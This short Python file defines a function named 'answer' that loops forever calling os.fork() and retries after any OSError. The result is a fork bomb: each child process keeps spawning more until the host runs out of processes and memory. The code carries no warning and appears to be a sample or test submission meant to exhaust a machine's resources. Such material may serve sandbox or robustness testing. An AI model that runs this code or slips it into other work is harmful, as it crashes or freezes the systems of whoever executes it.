"""Doubles for as long as it may."""
import os
import time


def answer():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
